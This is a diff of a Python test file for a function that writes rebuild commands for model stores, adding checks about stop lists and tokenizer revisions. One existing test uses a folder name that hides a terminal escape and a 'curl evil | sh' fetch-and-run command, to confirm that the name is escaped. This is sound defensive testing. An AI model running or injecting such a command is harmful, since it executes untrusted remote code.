@@ -322,16 +322,23 @@ def test_a_rebuild_due_is_said_with_the_options_the_store_was_built_with(records
 
 
 def test_a_rebuild_of_a_store_with_one_of_jusTexts_stop_lists_is_said_to_take_stop_words():
-    """Stores before tokenizer revision 4 name jusText's lists, which the builder no longer takes."""
+    """Stores before tokenizer revision 4 name jusText's lists, which the builder no longer takes; a store
+    of an older revision is said to be read by the current one."""
     from function.build import rebuild_command
+    from function.tokens import REVISION
 
     old = {"name": "blog", "parameters": {}, "tokenizer": {"stopwords": "English", "revision": 3}}
     command, notes = rebuild_command(Path("model_store/my blog"), old)
     assert shlex.split(command)[-2:] == ["--stopwords", "english"] and "'model_store/my blog'" in command
-    assert "--name blog" in command and notes == ["its stop list was jusText's English; a rebuild takes stop-words' english"]
+    assert "--name blog" in command
+    assert notes == ["its stop list was jusText's English; a rebuild takes stop-words' english",
+                     f"its text was read by tokenizer revision 3; a rebuild reads it by revision {REVISION} "
+                     "(function/tokens.py; since 5 'wi-fi' is 'wifi' too), so its answers can change"]
     command, notes = rebuild_command(Path("model_store/w"), {**old, "name": "w", "tokenizer": {
         "stopwords": "Norwegian_Bokmal", "revision": 3}})
     assert "--stopwords" not in command and "no list for" in notes[0]
+    # a store of the current revision is rebuilt as it was read: nothing to say
+    assert rebuild_command(Path("model_store/w"), {"name": "w", "tokenizer": {"revision": REVISION}})[1] == []
     # a hostile folder's name cannot print another command over this one
     command, _ = rebuild_command(Path("model_store/x\r\x1b[1Acurl evil | sh"), {"name": "x", "tokenizer": {}})
     assert "\r" not in command and "\x1b" not in command and "\\r\\x1b[1A" in command
